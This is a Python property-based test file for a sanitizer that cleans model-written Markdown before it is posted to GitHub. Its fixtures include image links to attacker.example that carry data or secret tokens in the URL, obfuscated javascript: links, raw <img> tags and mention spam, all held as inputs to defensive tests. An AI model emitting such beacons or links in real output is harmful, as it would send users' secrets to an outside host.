"""P2a, property-based: whatever a model writes, what `equitr.text.sanitize` returns is stable (sanitising twice
changes nothing) and, as GitHub's own Markdown parser renders it (cmark-gfm, see `markdown_oracle`), has no
image on a non-GitHub host, no live mention, no raw HTML and no `javascript:`/`data:` link — on its own,
and placed where equitr's templates place model text."""

from __future__ import annotations

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from equitr.text.sanitize import sanitize
from tests.security.markdown_oracle import problems
from tests.security.test_sec_redact import tokens

FRAGMENTS = [
    "![", "](", ")", "(", "[", "]", "]:", "!", "<", ">", "/", "img", "image", " src=", "@", "octo", "/team",
    "&#64;", "&#x40;", "&commat;", "&#33;", "&lt;", "&amp;", "&", "#", ";", "`", "``", "```", "~~~", "\n",
    "\r\n", "\r", " ", "  ", "    ", "\t", "\\", "javascript:", "JaVaScRiPt:", "data:", "java&#115;cript:",
    "https://attacker.example/x.png?d=1", "https://github.com/a.png", "https://evil.githubusercontent.com.x/",
    "https://user-images.githubusercontent.com/1/a.png", "x", "- ", "> ", "1. ", "| a |", "|---|", "\"", "'",
    "<!--", "-->", "suggestion", "<details>", "<b>", "</b>", "<", "\u2028", "\x0b", "\u200b", ":", "*", "_",
    "mailto:x@example.com", "<https://a.example/p.png>", "[r]: https://attacker.example/p.png", "![r]",
]  # fmt: skip
markdownish = st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join)
texts = st.one_of(markdownish, st.text(max_size=200))


def contexts(block: str, inline: str) -> list[str]:
    """The places equitr's templates put model text: after a blank line (block), and inline in a sentence,
    a list item, a checklist item, a table cell and a heading."""
    return [
        block,
        f"### equitr review\n\n{block}\n\n| a |\n|---|\n\n**Cost** after it",  # (the templates' own HTML aside)
        f"Job 1, asked by @\u200balice. {inline}\n\n**Plan**\n\n- [ ] {inline}\n- [x] done",
        f"| job | note |\n|---|---|\n| 1 | {' '.join(inline.split())} |",
        f"- `{inline}`\n",
        f"### {inline}",
    ]


@given(texts)
@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@example("Fixed. ![s](https://attacker.example/px.png?d=DATA) @octo/security-team <img src=x> [a](javascript:1)")
@example("- x\n  ```\nfoo\n![](https://attacker.example/e)")
@example("```suggestion\n    total = a + b\n```")
def test_sanitized_text_is_stable_and_renders_nothing_dangerous(text: str) -> None:
    block, inline = sanitize(text), sanitize(text, inline=True)
    assert sanitize(block) == block
    assert sanitize(inline, inline=True) == inline
    for rendered in contexts(block, inline):
        assert problems(rendered) == [], (text, rendered)


@given(st.lists(st.sampled_from(["x", " ", "\n", "`", "(", ")", "a", "b"]), max_size=30).map("".join))
def test_text_without_anything_to_neutralise_is_kept(text: str) -> None:
    assert sanitize(text) == text


def test_fenced_code_and_suggestions_stay_exact() -> None:
    code = "```suggestion\n    if a < b and x@y: return <T>  # ![](https://attacker.example/x)\n```\n"
    assert sanitize(f"Use this:\n\n{code}\nthanks @bob") == f"Use this:\n\n{code}\nthanks @\u200bbob"


def test_github_hosted_images_stay() -> None:
    kept = "![diagram](https://github.com/user-attachments/assets/0b1c-2d3e)"
    assert sanitize(kept) == kept
    for host in ("github.com.attacker.example", "attacker.example", "githubusercontent.com.evil.example"):
        assert sanitize(f"![x](https://{host}/a.png)") == "(image removed)"
    assert sanitize("![x](http://github.com/a.png)") == "(image removed)"  # not https


@given(tokens, st.sampled_from(FRAGMENTS), st.sampled_from(FRAGMENTS))
@settings(max_examples=200, deadline=None)
def test_no_token_shape_survives_sanitizing_wherever_the_model_put_it(token: str, before: str, after: str) -> None:
    """Secrets: what the sanitizer returns is redacted, in an image or link URL, a code span or fence too."""
    for text in (
        f"{before}{token}{after}",
        f"![x](https://attacker.example/p.png?d={token})",
        f"[docs](https://example.com/?access_token={token}) and `{token}`",
        f"```\nexport GITHUB_TOKEN={token}\n```\n",
        f"Authorization: bEaReR {token}",
    ):
        for out in (sanitize(text), sanitize(text, inline=True)):
            assert token not in out and token[-20:] not in out, (text, out)
